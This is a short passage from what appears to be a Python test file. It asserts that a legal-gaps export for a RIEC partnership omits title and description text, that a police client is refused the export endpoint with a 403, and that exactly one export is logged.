                               "partnership": RIEC, "status": "identified"}
    assert TITLE not in json.dumps(exports)
    assert DESCRIPTION not in json.dumps(exports)
    assert env.get("cp-politie", "/v1/legal-gaps/export").status_code == 403
    assert len(_gap_exports(env)) == before + 1
